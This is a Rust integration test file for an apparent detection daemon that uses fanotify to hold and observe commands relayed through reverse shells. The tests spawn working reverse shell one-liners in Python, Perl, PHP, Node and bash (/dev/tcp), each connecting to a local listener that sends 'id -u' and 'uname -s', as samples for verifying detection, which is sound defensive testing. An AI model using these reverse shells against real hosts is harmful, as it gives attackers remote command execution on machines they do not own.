//! With `fanotify = "hold"` each single command whose output a relay reads is seen while it waits in execve.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "a test's helpers may fail the test wherever they are"
)]

mod common;

use common::alone;
use common::attacker::Listener;
use common::daemon::Daemon;
use common::finding::Finding;
use common::relayed::{is_on, wait_or_show};
use common::victim::Victim;

/// How many commands are sent.
const COMMANDS: u64 = 60;

/// Sends commands to a loop that runs each, and proves that every one was held. `execs`: programs executed for each.
fn run(interpreter: &str, options: &[&str], text: &str, execs: u64) {
    let _alone = alone();
    let mut seen = Vec::new();
    // A machine that is busy with something else can keep even the threads that answer from their turn: who was let go
    // by the deadline is counted, and then it is tried again.
    for _ in 0..3 {
        let daemon = Daemon::start("[sensor]\nfanotify = \"hold\"\n");
        let found = session(&daemon, interpreter, options, text);
        let late = daemon.lost("deadline_missed");
        if found.observed("held") == execs * COMMANDS && found.observed("live") == 0 {
            return daemon.stop();
        }
        seen.push(format!("{} late {late}", found.property("Process_Observations")));
        daemon.stop();
        if late == 0 {
            break;
        }
    }
    panic!("not all {} were held: {seen:?}", execs * COMMANDS);
}

fn session(daemon: &Daemon, interpreter: &str, options: &[&str], text: &str) -> Finding {
    let attacker = Listener::tcp();
    let port = attacker.port();
    let text = text.replace("PORT", &port.to_string());
    let victim = Victim::start(interpreter, &[options, &[&text]].concat());
    let mut session = attacker.accept();
    for number in 0..COMMANDS {
        let (line, answer) = if number % 2 == 0 { ("id -u\n", "0\n") } else { ("uname -s\n", "Linux\n") };
        session.send(line);
        session.hear(answer);
    }
    drop(session);
    drop(victim);
    wait_or_show(daemon, &[port], "the incident ends", |record| {
        is_on(record, &[port]) && record.row() == 6 && record.state() == "INACTIVE"
    })
}

/// Pipes; the shell executes the command in its own place.
#[test]
fn python_subprocess() {
    require!("/usr/bin/python3");
    let text = "import socket,subprocess\ns=socket.create_connection(('127.0.0.1',PORT))\n\
        for l in s.makefile('r'): s.sendall(subprocess.run(l.strip(),shell=True,capture_output=True).stdout)";
    run("/usr/bin/python3", &["-c"], text, 2);
}

/// No shell in between.
#[test]
fn perl_backticks() {
    require!("perl");
    let text =
        "use IO::Socket; $s=IO::Socket::INET->new('127.0.0.1:PORT') or die; while(<$s>){print $s `$_`}";
    run("perl", &["-e"], text, 1);
}

/// The shell in between inherits the socket, and is not who reads.
#[test]
fn php_shell_exec() {
    require!("php");
    let text = "$s=stream_socket_client('tcp://127.0.0.1:PORT'); \
        while(($l=fgets($s))!==false){fwrite($s,shell_exec(trim($l)));}";
    run("php", &["-r"], text, 2);
}

/// UNIX sockets on all three.
#[test]
fn node_exec_sync() {
    require!("node");
    let text = "const c=require('child_process');const s=require('net').connect(PORT,'127.0.0.1');let b='';\
        s.on('data',d=>{b+=d;let i;while((i=b.indexOf('\\n'))>=0){const l=b.slice(0,i);b=b.slice(i+1);\
        s.write(c.execSync(l))}});s.on('end',()=>process.exit())";
    run("node", &["-e"], text, 2);
}

/// The shell itself reads.
#[test]
fn bash_substitution() {
    require!("bash");
    let text = "exec 5<>/dev/tcp/127.0.0.1/PORT; while read -r l <&5; do o=$($l); echo \"$o\" >&5; done";
    run("bash", &["-c"], text, 1);
}
